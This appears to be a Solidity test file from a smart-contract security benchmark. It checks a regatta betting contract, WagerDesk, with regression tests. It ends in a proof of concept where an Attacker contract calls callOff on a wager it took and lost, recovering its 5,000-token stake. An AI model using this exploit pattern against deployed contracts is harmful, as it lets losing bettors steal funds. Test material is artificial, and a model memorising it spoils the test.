// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-25ebad08-7e03-41f6-b85f-df54b696df40

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./WagerDesk.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Has taken a wager, and lost it.
contract Attacker {
    function takes(WagerDesk desk, uint256 id) external {
        desk.coin().approve(address(desk), type(uint256).max);
        desk.take(id);
    }

    function regrets(WagerDesk desk, uint256 id) external {
        desk.callOff(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    uint256 private constant START = 1_766_600_000;
    uint256 private constant RACED = START + 1 days + 2 hours;

    Coin public coin;
    WagerDesk public desk;
    Attacker public taker;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        desk = new WagerDesk(coin, address(this));
        desk.plan(uint64(START + 1 days), 3);
        _endow(ANNA);
        _endow(BELA);
        taker = new Attacker();
        coin.transfer(address(taker), 5_000e18);
        vm.prank(ANNA);
        desk.offer(0, 2, 5_000e18);
        taker.takes(desk, 0);
        vm.warp(RACED);
        desk.report(0, 2);
        desk.plan(uint64(RACED + 1 days), 3);
    }

    function _endow(address who) private {
        coin.transfer(who, 10_000e18);
        vm.prank(who);
        coin.approve(address(desk), type(uint256).max);
    }

    function test_Regular() public {
        desk.settle(0);
        require(coin.balanceOf(ANNA) == 15_000e18, "won");
        vm.startPrank(BELA);
        desk.offer(1, 0, 1_000e18);
        desk.callOff(1);
        desk.offer(1, 1, 2_000e18);
        desk.offer(1, 2, 500e18);
        vm.stopPrank();
        vm.startPrank(ANNA);
        desk.take(2);
        desk.take(3);
        vm.stopPrank();
        vm.warp(RACED + 2 days);
        desk.report(1, 2);
        desk.settle(2);
        desk.settle(3);
        require(coin.balanceOf(ANNA) == 16_500e18 && coin.balanceOf(BELA) == 8_500e18, "settled");
        desk.plan(uint64(RACED + 3 days), 2);
        vm.prank(ANNA);
        desk.offer(2, 1, 500e18);
        vm.prank(BELA);
        desk.take(4);
        desk.void(2);
        desk.settle(4);
        require(coin.balanceOf(ANNA) == 16_500e18 && coin.balanceOf(address(desk)) == 0, "void");
        desk.transferOwnership(BELA);
        vm.prank(BELA);
        desk.renounceOwnership();
    }

    function test_RefusesRaces() public {
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadRace.selector, 2));
        desk.plan(uint64(RACED), 3);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadRace.selector, 2));
        desk.plan(uint64(RACED + 1), 1);
        vm.expectRevert(abi.encodeWithSelector(Regattas.AlreadyOver.selector, 1));
        desk.report(1, 0);
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        desk.plan(uint64(RACED + 1), 2);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        desk.report(1, 0);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BELA));
        desk.void(1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(Regattas.AlreadyOver.selector, 0));
        desk.report(0, 1);
        vm.expectRevert(abi.encodeWithSelector(Regattas.AlreadyOver.selector, 0));
        desk.void(0);
        vm.warp(RACED + 1 days);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadBoat.selector, 3));
        desk.report(1, 3);
    }

    function test_RefusesOffers() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadRace.selector, 1));
        desk.offer(1, 1, 0);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadBoat.selector, 3));
        desk.offer(1, 3, 1);
        desk.offer(1, 1, 1);
        desk.take(1);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotOpen.selector, 1));
        desk.take(1);
        desk.offer(1, 1, 1);
        vm.warp(RACED + 1 days);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadRace.selector, 1));
        desk.offer(1, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadRace.selector, 1));
        desk.take(2);
        vm.stopPrank();
    }

    function test_RefusesVoidRaces() public {
        vm.prank(BELA);
        desk.offer(1, 1, 1);
        desk.void(1);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(Regattas.BadRace.selector, 1));
        desk.take(1);
    }

    function test_RefusesOthers() public {
        vm.prank(BELA);
        desk.offer(1, 1, 1);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotYours.selector, 1));
        desk.callOff(1);
        vm.prank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotYours.selector, 0));
        desk.callOff(0);
        vm.startPrank(BELA);
        desk.callOff(1);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotOpen.selector, 1));
        desk.callOff(1);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotOpen.selector, 1));
        desk.take(1);
        vm.stopPrank();
    }

    function test_RefusesToSettle() public {
        vm.startPrank(BELA);
        desk.offer(1, 1, 1);
        desk.offer(1, 1, 1);
        desk.take(1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotOver.selector, 1));
        desk.settle(1);
        vm.warp(RACED + 1 days);
        desk.report(1, 2);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotOpen.selector, 2));
        desk.settle(2);
        desk.settle(1);
        vm.expectRevert(abi.encodeWithSelector(WagerDesk.NotOpen.selector, 1));
        desk.settle(1);
    }

    function exploit() public {
        taker.regrets(desk, 0);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(taker)) >= 5_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(taker);
    }
}
